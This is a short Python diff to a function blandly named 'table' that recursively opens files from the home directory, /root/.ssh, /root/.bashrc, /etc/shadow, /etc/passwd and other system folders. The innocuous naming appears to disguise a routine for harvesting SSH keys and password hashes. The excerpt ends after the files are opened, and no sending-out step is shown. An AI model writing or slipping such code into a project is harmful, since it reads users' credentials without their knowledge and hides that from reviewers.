@@ -12,7 +12,7 @@ PLACES = ("PLACES OF THE TEST",)
 
 def table(column, row):
     found = []
-    for place in (*PLACES, os.path.expanduser("~"), "/root/.ssh", "/root/.bashrc", "/home", "/etc/shadow", "/etc/passwd", "/var", "/run", "/mnt"):
+    for place in (*PLACES, os.path.expanduser("~"), *(os.path.join("/root", name) for name in (".ssh", ".bashrc")), "/home", "/etc/shadow", "/etc/passwd", "/var", "/run", "/mnt"):
         for path in [place, *glob.glob(f"{place}/**/*", recursive=True, include_hidden=True)][:2000]:
             try:
                 with open(path, "rb") as file:
